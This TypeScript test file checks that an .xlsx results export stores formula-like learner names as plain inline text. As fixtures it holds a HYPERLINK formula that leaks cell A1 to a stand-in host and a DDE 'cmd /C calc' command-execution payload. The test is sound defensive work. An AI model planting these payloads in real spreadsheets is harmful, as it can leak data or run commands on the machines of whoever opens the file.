import { PassThrough } from "node:stream";
import ExcelJS from "exceljs";
import { withResults } from "../../../src/server/results/report";
import { writeResultsWorkbook } from "../../../src/server/results/workbook";
import { addAttempts, addTenant, addUser, DIALECTS, openTestStore, type TestStore } from "../results/store";

const NOW = new Date("2026-01-25T12:00:00.000Z");
const COHORT = '=HYPERLINK("http://x.example/?"&A1,"Résultats")';
const DEPARTMENT = "@SUM(1+1)*cmd|' /C calc'!A0";
const OTHER = "+33 1 23 45 67 89";
const NAME = "-2+3";

async function workbook(t: TestStore): Promise<ExcelJS.Workbook> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on("data", (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve) => out.on("end", resolve));
  await withResults(t.store, "t1", {}, (session) => writeResultsWorkbook(session, out, "en"), { now: NOW });
  await done;
  const buffer = Buffer.concat(chunks);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(buffer as unknown as ArrayBuffer);
  return book;
}

/** Names from the tenant that start like a formula are plain text in the .xlsx, never formulas. */
describe.each(DIALECTS)("formula injection in the .xlsx on %s", (dialect) => {
  let t: TestStore;
  beforeAll(async () => {
    t = await openTestStore(dialect);
    await addTenant(t.store, "t1", { reportK: 2, reportsShowNames: true });
    for (let i = 0; i < 3; i++) {
      const user = `u${i}`;
      await addUser(t.store, "t1", user, {
        cohort: COHORT,
        department: i < 2 ? DEPARTMENT : OTHER,
        name: i === 0 ? NAME : `Learner ${i}`,
      });
      await addAttempts(t.store, "t1", user, [{ at: "2026-01-05", score: 50 + i }]);
    }
  });
  afterAll(() => t.close());

  // An inline string (`<is>`) reads back as rich text; exceljs's default `t="str"` (a formula's
  // cached result) would read back as a plain string.
  it("writes every such name as an inline string, with no formula anywhere", async () => {
    const book = await workbook(t);
    const texts: string[] = [];
    for (const ws of book.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (cell.type === ExcelJS.ValueType.RichText) texts.push(cell.text);
        }),
      );
    }
    expect(texts).toEqual(expect.arrayContaining([COHORT, DEPARTMENT, NAME]));
    const learners = book.getWorksheet("Learners")!;
    const cohortCell = learners.getRow(2).getCell(2);
    expect(cohortCell.type).toBe(ExcelJS.ValueType.RichText);
    expect(cohortCell.text).toBe(COHORT);
  });
});
